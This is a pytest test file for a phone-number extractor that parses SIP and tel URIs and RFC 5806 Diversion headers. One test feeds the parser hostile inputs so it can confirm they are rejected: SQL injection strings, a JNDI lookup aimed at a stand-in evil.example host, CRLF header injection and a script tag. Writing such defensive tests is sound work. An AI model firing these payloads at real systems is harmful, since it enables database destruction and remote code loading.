"""Numbers out of SIP/tel URIs, name-addrs and Diversion headers: E.164 or None, never an exception."""

import pytest

from telephony.numbers import MAX_HEADER_LENGTH, diversion_number, diversion_numbers, extract_number

FLORENCE = "+390551234567"


@pytest.mark.parametrize(
    ("value", "region", "expected"),
    [
        # plain numbers
        ("+390551234567", None, FLORENCE),
        ("+39 055 123 4567", None, FLORENCE),
        ("+39-055-123-4567", None, FLORENCE),
        ("+39 (055) 123.4567", None, FLORENCE),
        ("  +390551234567\t", None, FLORENCE),
        # national formats: the trunk's region, else PHONE_DEFAULT_REGION (IT in tests)
        ("0551234567", None, FLORENCE),
        ("055 123 4567", "IT", FLORENCE),
        ("00390551234567", "IT", FLORENCE),
        ("020 7946 0018", "GB", "+442079460018"),
        ("(212) 555-1212", "US", "+12125551212"),
        # carriers that drop the '+' of international numbers
        ("390551234567", "IT", FLORENCE),
        ("sip:12125551212@carrier.example", "IT", "+12125551212"),
        # tel: URIs (RFC 3966)
        ("tel:+39-055-123-4567", None, FLORENCE),
        ("tel:+390551234567;ext=22", None, FLORENCE),
        ("tel:0551234567;phone-context=+39", "US", FLORENCE),
        ("tel:1234567;phone-context=+39055", None, FLORENCE),
        ("tel:02079460018;phone-context=+44", None, "+442079460018"),
        ("TEL:+390551234567", None, FLORENCE),
        # sip: / sips: URIs (RFC 3261)
        ("sip:+390551234567@pbx.example;user=phone", None, FLORENCE),
        ("sip:0551234567@10.0.0.5", None, FLORENCE),
        ("sips:+390551234567@pbx.example:5061;transport=tls", None, FLORENCE),
        ("sip:%2B390551234567@pbx.example", None, FLORENCE),
        ("sip:+39-055-1234567;phone-context=+39@pbx.example;user=phone", None, FLORENCE),
        ("sip:+390551234567:secret@pbx.example", None, FLORENCE),
        ("+390551234567@pbx.example", None, FLORENCE),
        # name-addr forms with parameters
        ('"Mario" <sip:0551234567@10.0.0.5>;tag=x', None, FLORENCE),
        ("Mario Rossi <sip:+390551234567@pbx.example>;tag=a6c85cf", None, FLORENCE),
        ('"Rossi, Mario <owner>" <sip:+390551234567@pbx.example>', None, FLORENCE),
        ('"say \\"ciao\\"" <tel:+390551234567>', None, FLORENCE),
        ("<sip:+390551234567@pbx.example;user=phone>;tag=1;expires=60", None, FLORENCE),
        ('"Mário Café" <sip:+390551234567@pbx.example>', None, FLORENCE),
    ],
)
def test_extracts_e164(value, region, expected):
    assert extract_number(value, region=region) == expected


@pytest.mark.parametrize(
    "value",
    [
        None,
        "",
        "   ",
        "anonymous",
        "sip:anonymous@anonymous.invalid",
        "sip:mario@pbx.example",
        "sip:pbx.example",
        "sip:10.0.0.5",
        "sip:@pbx.example",
        "http://+390551234567@example.com",
        "mailto:+390551234567@example.com",
        "tel:",
        "<sip:+390551234567@pbx.example",  # unterminated <
        '"Mario <sip:+390551234567@pbx.example>',  # unterminated display name
        '"Mario" sip:+390551234567@pbx.example',  # display name without <uri>
        "12",
        "*67",
        "#31#0551234567",
        "0551234567#",
        "+39 055 FLOWERS",
        "1-800-FLOWERS",
        "+",
        "++390551234567",
        "+0551234567",
        "+999999999999999",
        "+3905512345678901234567",
    ],
)
def test_garbage_is_none(value):
    assert extract_number(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "+" + "3" * 10_000,  # 10 kB of digits
        "sip:" + "1" * 10_000 + "@pbx.example",
        "<" * 10_000,
        '"' * 10_000,
        '"' + "\\" * 9_999,
        ";" * 10_000,
        "+390551234567" + " " * (MAX_HEADER_LENGTH + 1),
        "+٣٩٠٥٥١٢٣٤٥٦٧",  # Arabic-Indic digits: phonenumbers would read them, SIP never carries them
        "+۳۹۰۵۵۱۲۳۴۵۶۷",  # Extended Arabic-Indic (Persian)
        "+\uff13\uff19\uff10\uff15\uff15\uff11\uff12\uff13\uff14\uff15\uff16\uff17",  # fullwidth digits
        "sip:+٣٩٠٥٥١٢٣٤٥٦٧@pbx.example",
        "sip:+39\u20000551234567@pbx.example",  # en quad inside the number
        "+390551234567\x00",
        "sip:+390551234567\x00@pbx.example",
        "sip:+390551234567@pbx.example\r\nX-Injected: 1",
        "sip:%00390551234567@pbx.example",
        "sip:%ff%fe@pbx.example",
        "\ud800+390551234567",  # a lone surrogate
        "sip:0551234567'; DROP TABLE telephony_sipnumber;--@pbx.example",
        "0551234567' OR '1'='1",
        "'; DELETE FROM telephony_callrecord; --",
        "+390551234567); DROP TABLE restaurants_business; --",
        "sip:${jndi:ldap://evil.example/a}@pbx.example",
        "<script>alert(1)</script>",
    ],
)
def test_hostile_input_is_none_and_never_raises(value):
    assert extract_number(value) is None
    assert diversion_number(value) is None
    assert diversion_numbers(value) == []


@pytest.mark.parametrize("value", [12345, 3.9, b"+390551234567", ["+390551234567"], {"n": 1}, object()])
def test_non_strings_are_none(value):
    assert extract_number(value) is None
    assert diversion_number(value) is None


@pytest.mark.parametrize("region", ["", "XX", "italy", 39, None, "it"])
def test_any_region_is_tolerated(region):
    assert extract_number(FLORENCE, region=region) == FLORENCE
    assert extract_number("0551234567", region=region) in {FLORENCE, None}


def test_a_bug_inside_extraction_costs_the_routing_not_the_call(monkeypatch):
    import telephony.numbers

    def explode(uri, region):
        raise RuntimeError("bug")

    monkeypatch.setattr(telephony.numbers, "_number_in_uri", explode)
    assert extract_number(FLORENCE) is None


# --- Diversion (RFC 5806) -------------------------------------------------------------------------

FORWARDED = (
    '"Trattoria" <sip:+390551234567@carrier.example;user=phone>;reason=unconditional;counter=1;privacy=off, '
    "<sip:0557654321@pbx.example>;reason=user-busy;counter=2;screen=no"
)


def test_diversion_number_is_the_first_entry():
    assert diversion_number(FORWARDED) == FLORENCE
    assert diversion_number("<sip:+390551234567@carrier.example>;reason=unconditional") == FLORENCE
    assert diversion_number("<tel:+390551234567>;reason=no-answer;counter=1") == FLORENCE


def test_diversion_numbers_lists_every_entry_top_first():
    assert diversion_numbers(FORWARDED) == [FLORENCE, "+390557654321"]
    assert diversion_numbers(FORWARDED, region="GB") == [FLORENCE]  # the national entry means GB now


def test_commas_inside_quotes_and_brackets_do_not_split_entries():
    header = '"Rossi, Mario" <sip:+390551234567@a.example;x=1,2>;reason=unconditional, <sip:+390557654321@b>'
    assert diversion_numbers(header) == [FLORENCE, "+390557654321"]


def test_a_garbage_first_entry_is_not_skipped_by_diversion_number():
    header = "<sip:anonymous@carrier.example>;reason=unconditional, <sip:+390551234567@b.example>"
    assert diversion_number(header) is None
    assert diversion_numbers(header) == [FLORENCE]


def test_diversion_numbers_drops_repeats_and_empty_entries():
    header = f"<sip:{FLORENCE}@a>, , <tel:{FLORENCE}>;counter=2,"
    assert diversion_numbers(header) == [FLORENCE]


def test_a_huge_forwarding_chain_is_cut_short():
    header = ", ".join(f"<sip:+3905512{i:05d}@hop{i}.example>" for i in range(40))
    assert len(header) < MAX_HEADER_LENGTH
    numbers = diversion_numbers(header)
    assert len(numbers) == 10
    assert numbers[0] == "+390551200000"


@pytest.mark.parametrize("header", [None, "", ",", " , , ", "<>", "reason=unconditional"])
def test_empty_diversion_headers(header):
    assert diversion_number(header) is None
    assert diversion_numbers(header) == []
